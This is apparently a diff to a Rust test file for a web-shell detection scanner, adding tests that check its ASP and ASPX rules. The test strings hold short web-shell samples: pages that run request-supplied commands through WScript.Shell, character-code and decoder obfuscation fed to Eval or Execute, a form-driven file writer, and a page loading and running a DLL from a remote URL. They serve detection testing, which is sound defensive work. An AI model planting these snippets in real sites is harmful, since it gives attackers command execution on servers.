@@ -1326,12 +1326,12 @@ fn server_variables_dump_is_a_statement() {
     );
 }
 
-/// A monitoring page that pings its own list of sites and prints its verdict far below is no
-/// command page; one that writes what it read, right there, is. A database helper's
+/// A monitoring page that pings its own list of sites and prints its verdict pages below (some
+/// 2 KB) is no command page; one that writes what it read, right there, is. A database helper's
 /// `DataSource.Exec(cmdErrors)` next to request reads starts no process.
 #[test]
 fn command_pages_write_the_output_they_read() {
-    let filler = "<tr><td>status of the site</td></tr>\n".repeat(20);
+    let filler = "<tr><td>status of the site</td></tr>\n".repeat(60);
     let monitor = format!(
         "<%\nSet sh = CreateObject(\"WScript.Shell\")\nFor x = 0 To 3\n Set e = sh.Exec(\"ping -n 1 -w 1000 \" & sites(x))\n r = LCase(e.StdOut.ReadAll)\n If InStr(r, \"reply from\") > 0 Then ok(x) = True\nNext\n%>\n{filler}<% For x = 0 To 3: Response.Write sites(x) & \": \" & ok(x): Next %>\n"
     );
@@ -1387,4 +1387,70 @@ fn character_codes_run_only_as_code() {
         "{:?}",
         hits(named)
     );
+}
+
+/// Second read of stop 27: each narrowing above still reads the shells of its kind written
+/// another way, and the two new rules stay off pages and binaries that only name their calls.
+#[test]
+fn stop_27_second_read() {
+    let has = |page: &str, rule: &str| {
+        let h = hits(page);
+        assert!(h.contains(rule), "{rule} not in {h:?} for {page}");
+    };
+    // a loopback ping in a comment does not make the page's one command a wait
+    has(
+        "<%\nc = Request(\"c\")\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /q /c \" & c & \" > o.txt\", 0, True ' then ping -n 1 127.0.0.1\n%>\n",
+        "EXRAY_ASP_WScript_Shell_Exec",
+    );
+    // nor a ping that the request's command follows on its line
+    has(
+        "<%\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /c ping -n 1 127.0.0.1 & \" & Request(\"c\"), 0, True\n%>\n",
+        "EXRAY_ASP_WScript_Shell_Exec",
+    );
+    // character codes evaluated through a name VBScript's way
+    let codes: String = "CreateObject(\"WScript.Shell\").Run(Request(\"c\"))"
+        .bytes()
+        .map(|b| format!("Chr({b})"))
+        .collect::<Vec<_>>()
+        .join("&");
+    for call in ["Eval(c & \"\")", "Eval c", "Eval(Trim(c))"] {
+        has(
+            &format!("<%\nc = {codes}\nx = {call}\n%>\n"),
+            "EXRAY_ASP_Chr_Assembled_Execute",
+        );
+    }
+    // arithmetic three parentheses deep inside Chr
+    has(
+        "<%\nFunction d(s)\n For i = 1 To Len(s) Step 3\n  r = r & Chr((CInt(Mid(s, i, 3)) - 7))\n Next\n d = r\nEnd Function\nExecute d(\"108115122\")\n%>\n",
+        "EXRAY_ASP_Execute_Decoder",
+    );
+    // a writing mode passed through a constant
+    has(
+        "<%\np = Request.Form(\"p\")\nc = Request.Form(\"c\")\nConst W = 2\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(p, W, True)\nf.Write c\nf.Close\n%>\n",
+        "EXRAY_File_Writer_Variable_Path",
+    );
+    // the output written a few hundred bytes below
+    let rows = "<tr><td>status</td></tr>\n".repeat(20);
+    has(
+        &format!("<%\nSet s = Server.CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"whoami\")\no = e.StdOut.ReadAll\n%>\n{rows}<% Response.Write o %>\n"),
+        "EXRAY_ASP_Command_Output_Page",
+    );
+    // a server-variable loop in a page with bare CR line ends
+    has(
+        "<%\rDim n\rFor Each n In Request.ServerVariables\r Response.Write n & \"=\" & Request.ServerVariables(n)\rNext\r%>\r",
+        "EXRAY_ASP_ServerVariables_Dump",
+    );
+    // an assembly fetched from a URL by LoadFrom
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { var a = System.Reflection.Assembly.UnsafeLoadFrom(\"http://10.0.0.5/x.dll\"); a.EntryPoint.Invoke(null, null); }\n</script>\n",
+        "EXRAY_NET_Remote_Assembly_Loader",
+    );
+    // not a feed handler that loads its own formatter by name
+    let feed = "<%@ WebHandler Language=\"C#\" Class=\"Feed\" %>\nusing System.Net; using System.Reflection;\npublic class Feed : IHttpHandler {\n public void ProcessRequest(HttpContext ctx) {\n  var req = (HttpWebRequest)WebRequest.Create(feedUrl);\n  using (var s = req.GetResponse().GetResponseStream()) {\n   var t = Assembly.Load(\"App.Formatters\").GetType(\"App.Formatters.Rss\");\n   dynamic f = Activator.CreateInstance(t);\n   ctx.Response.Write(f.Format(s));\n  }\n }\n}\n";
+    assert!(hits(feed).is_empty(), "{:?}", hits(feed));
+    // not an article that names the injection calls, nor a DLL that imports them
+    let doc = "<%@ Page Language=\"C#\" %>\n<asp:Content runat=\"server\"><p>Injection calls OpenProcess, VirtualAllocEx and WriteProcessMemory, then CreateRemoteThread.</p></asp:Content>\n";
+    assert!(hits(doc).is_empty(), "{:?}", hits(doc));
+    let dll = "MZ\u{90}\0<%DllImport VirtualAllocEx WriteProcessMemory CreateRemoteThread";
+    assert!(hits(dll).is_empty(), "{:?}", hits(dll));
 }
